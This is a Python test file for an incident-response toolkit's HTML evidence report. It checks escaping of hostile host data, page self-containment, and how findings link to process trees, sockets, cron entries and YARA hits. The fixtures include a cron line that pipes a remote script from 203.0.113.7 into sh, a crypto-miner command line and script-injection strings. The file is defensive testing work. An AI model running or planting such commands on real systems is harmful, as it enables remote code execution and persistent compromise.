"""The HTML report without a browser: escaping, self-containment, building into an open bundle."""

import json
import re
from pathlib import Path
from typing import Any

from irkit.evidence.reader import BundleReader
from irkit.evidence.records import Finding
from irkit.evidence.verify import verify_bundle
from irkit.evidence.view import view_from_parts, view_from_reader
from irkit.evidence.writer import EvidenceWriter
from irkit.hunt.hits import MatchedString, YaraHit, hit_to_finding
from irkit.report.html import (
    REPORT_MEMBER,
    build_report,
    report_from_reader,
    script_json,
    write_report_member,
)
from irkit.report.incident import MAX_DEPTH, build_incident
from irkit.report.summary import summarize
from tests.reportbundles import (
    SCRIPT_TITLE,
    XSS_CMDLINE,
    jsonl,
    process,
    scenario_bundle,
    scenario_records,
)

DATA_BLOCK = re.compile(
    r'<script type="application/json" id="irkit-data">(.*?)</script>', re.DOTALL
)


def embedded_data(html: str) -> dict:
    match = DATA_BLOCK.search(html)
    assert match is not None
    return json.loads(match.group(1))


def test_script_json_cannot_close_the_script_element_or_open_a_comment() -> None:
    text = str(script_json({"a": "</script><!-- <script>", "b": "&amp; \u2028"}))
    assert "<" not in text and ">" not in text and "&" not in text
    assert "\u2028" not in text
    assert json.loads(text) == {"a": "</script><!-- <script>", "b": "&amp; \u2028"}


def test_host_text_never_reaches_the_page_as_markup(tmp_path: Path) -> None:
    with BundleReader(scenario_bundle(tmp_path)) as reader:
        html = report_from_reader(reader).decode()
    assert "<img" not in html
    assert html.count("</script>") == 2, "only the data block and the page script end"
    assert SCRIPT_TITLE not in html
    assert "&lt;/script&gt;&lt;script&gt;alert(2)" in html, "the title is shown, escaped"
    data = embedded_data(html)
    assert XSS_CMDLINE in json.dumps(data["records"]), "the data itself is kept intact"
    assert "\x1b" not in html.split('id="irkit-data"')[0], "no raw escape in rendered markup"


def test_the_page_is_self_contained(tmp_path: Path) -> None:
    with BundleReader(scenario_bundle(tmp_path)) as reader:
        html = report_from_reader(reader).decode()
    page = DATA_BLOCK.sub("", html)
    assert not re.search(r"(?i)\b(src|href)\s*=\s*[\"']?(https?:|//|file:)", page)
    assert not re.search(r"(?i)<(link|iframe|object|embed|img)\b", page)
    assert not re.search(r"(?i)@import|url\(", page)
    assert not re.search(r"\b(fetch|XMLHttpRequest|WebSocket|innerHTML|outerHTML)\b", page)
    assert "Content-Security-Policy" in page and "default-src 'none'" in page


def test_unknown_record_types_and_odd_findings_degrade_to_generic_rows() -> None:
    view = view_from_parts(
        {
            "records/odd.jsonl": [
                {"type": "finding", "title": "no severity, reasons as a string", "reasons": "x"},
                {"type": "weird", "nested": {"a": [1, 2]}, "when_time": "2026-01-01T00:00:00Z"},
                {"no type at all": 1},
            ]
        }
    )
    html = build_report([view]).decode()
    data = embedded_data(html)
    assert set(data["bundles"][0]["types"]) == {"finding", "weird", "record"}
    assert data["findings"][0]["reasons"] == ["x"]
    assert "no severity, reasons as a string" in html


def test_report_is_written_into_an_open_bundle_before_it_is_sealed(tmp_path: Path) -> None:
    bundle = tmp_path / "live.zip"
    records = {
        "records/processes.jsonl": [process(7, 1, "xmrig", ["xmrig", "-o", "pool:3333"])],
    }
    finding = Finding(title="miner", severity="critical", source="test", pid=7)
    with bundle.open("wb") as sink:
        writer = EvidenceWriter(sink, command_line=["irkit", "test"])
        writer.host["hostname"] = "live"
        crontab = tmp_path / "crontab"
        crontab.write_text("* * * * * root /tmp/xmrig\n")
        with crontab.open("rb") as handle:
            writer.copy_open_file(handle, "/etc/crontab", "files/etc/crontab", collector="test")
        for member, items in records.items():
            writer.write_bytes(member, jsonl(items), collector="test")
        writer.write_records("records/findings.jsonl", [finding], collector="test")
        write_report_member(
            writer, {**records, "records/findings.jsonl": [finding]}, iocs=["203.0.113.9"]
        )
        writer.close(complete=True)
    assert verify_bundle(bundle).intact
    with BundleReader(bundle) as reader:
        html = reader.read(REPORT_MEMBER).decode()
        assert REPORT_MEMBER in {m.name for m in reader.manifest.members}
    data = embedded_data(html)
    assert data["summary"]["verdict"] == "COMPROMISED"
    assert data["iocs"][0]["value"] == "203.0.113.9"
    types = {data["timeline"]["types"][e[1]] for e in data["timeline"]["events"]}
    assert {"process", "file", "log"} <= types
    assert "before its manifest sealed it" in html


def test_a_report_for_a_sealed_bundle_matches_the_one_from_its_view(tmp_path: Path) -> None:
    with BundleReader(scenario_bundle(tmp_path)) as reader:
        view = view_from_reader(reader)
        data = embedded_data(report_from_reader(reader).decode())
    assert len(data["timeline"]["events"]) > 20
    assert data["summary"]["hosts"] == [view.label]
    assert data["findings"][0]["title"].startswith("Miner hiding")


def test_the_incident_joins_each_finding_to_the_records_it_names() -> None:
    """The lineage of a flagged process, its window, and evidence found by pid, persistence
    entry and YARA hit, with findings made the way triage makes them (hit_to_finding)."""
    records = scenario_records()
    cron = records["records/persistence.jsonl"][0]
    hit = YaraHit(
        rule="Miner_Test",
        namespace="miners",
        severity="high",
        description="synthetic",
        target="pid:4242",
        target_kind="process",
        strings=[MatchedString("$pool", 0x7FFF0010, 16, "stratum+tcp://x")],
        matches=1,
        pid=4242,
    )
    records["records/hunts.jsonl"] = [hit]
    records["records/findings.jsonl"] = [
        hit_to_finding(hit),
        Finding(title="cron persistence: /etc/crontab:12", severity="high", source="heuristic",
                path="/etc/crontab", time=cron["mtime"]),
    ]  # fmt: skip
    view = view_from_parts(records)
    summary = summarize([view])
    incident = build_incident([view], summary.findings)
    [(_host, [init])] = incident.trees
    [sshd] = init.children
    [miner] = sshd.children
    assert (init.pid, sshd.pid, miner.pid) == (1, 812, 4242)
    assert miner.flagged and not init.flagged
    signals = {(s.kind, s.text): s.finding for s in miner.signals}
    assert signals[("flag", "kernel-thread-imitation")] is None
    yara_card = signals[("high", "YARA Miner_Test")]
    assert yara_card is not None
    assert summary.findings[yara_card]["title"] == "YARA Miner_Test on process pid:4242"
    assert incident.window_text == ("2026-11-30T10:04:00.000000Z", "2026-11-30T10:05:00.123456Z")
    evidence = {
        f["title"]: [(e.label, e.value) for e in items]
        for f, items in zip(summary.findings, incident.evidence, strict=True)
    }
    yara = evidence["YARA Miner_Test on process pid:4242"]
    assert ("command line", XSS_CMDLINE) in yara
    assert ("YARA $pool @ 0x7fff0010", "stratum+tcp://x") in yara
    assert ("socket", "tcp 127.0.0.1:43210 → 203.0.113.7:3333 ESTABLISHED [pool-port]") in yara
    assert evidence["cron persistence: /etc/crontab:12"] == [
        ("cron line /etc/crontab:12", "*/5 * * * * root curl -fsSL http://203.0.113.7/x.sh | sh")
    ]


def test_a_parent_loop_or_an_endless_chain_ends_in_a_root() -> None:
    """Parent links are the host's word: 10 ↔ 11 claim each other, 200 sits under a chain of
    100 ancestors. Each still ends at a root, and the report is built."""
    looped = [process(10, 11, "a", ["a"]), process(11, 10, "b", ["b"])]
    chain = [process(100 + i, 100 + i - 1, f"p{i}", [f"p{i}"]) for i in range(1, 101)]
    records = {"records/processes.jsonl": looped + chain}
    records["records/findings.jsonl"] = [
        Finding(title=f"miner {pid}", severity="high", source="test", pid=pid) for pid in (10, 200)
    ]
    view = view_from_parts(records)
    summary = summarize([view])
    [(_host, roots)] = build_incident([view], summary.findings).trees

    def depth(node: Any) -> int:
        return 1 + max((depth(child) for child in node.children), default=0)

    assert {root.pid for root in roots} == {11, 200 - MAX_DEPTH + 1}
    assert all(depth(root) <= MAX_DEPTH for root in roots)
    assert "miner 200" in build_report([view]).decode()


def test_without_a_serious_finding_there_is_no_window_and_no_tree() -> None:
    view = view_from_parts(
        {
            "records/processes.jsonl": [process(5, 1, "cron", ["cron"])],
            "records/findings.jsonl": [
                Finding(title="noted", severity="low", source="test", pid=5, time="2026-01-01")
            ],
        }
    )
    data = embedded_data(build_report([view]).decode())
    assert data["incident_window"] is None
    summary = summarize([view])
    assert build_incident([view], summary.findings).trees == []


def test_records_of_the_wrong_shape_still_give_a_report() -> None:
    """A hostile bundle's fields may hold anything: the incident is built around them."""
    odd = {**process(9, 1, "x", ["x"], flags=3, user=None, uid=[1]), "cmdline": {"a": 1}}
    init = {**process(1, 0, "init", ["init"]), "ppid": "0", "cmdline": "init"}
    view = view_from_parts(
        {
            "records/p.jsonl": [odd, init],
            "records/s.jsonl": [
                {"type": "socket", "pid": 9, "pids": 5, "flags": "pool-port", "local_port": []},
                {"type": "socket", "pid": None, "pids": [{"x": 1}, 9, "9"]},
            ],
            "records/y.jsonl": [
                {"type": "yara-hit", "rule": "R", "strings": 7, "target": 9, "pid": 9},
                {"type": "persistence", "source": None, "line": "x", "detail": "ExecStart"},
            ],
            "records/f.jsonl": [
                {"type": "finding", "title": "YARA R on None 9", "severity": "high", "pid": 9,
                 "rule": "R", "source": "yara", "time": "not a time"},
                {"type": "finding", "title": "persistence: None", "severity": "critical",
                 "path": None, "pid": "9"},
            ],
        }
    )  # fmt: skip
    summary = summarize([view])
    incident = build_incident([view], summary.findings)
    [(_host, [root])] = incident.trees
    assert root.pid == 1 and root.children[0].pid == 9
    assert incident.window_text == (odd["start_time"], odd["start_time"])
    assert "YARA R on None 9" in build_report([view]).decode()
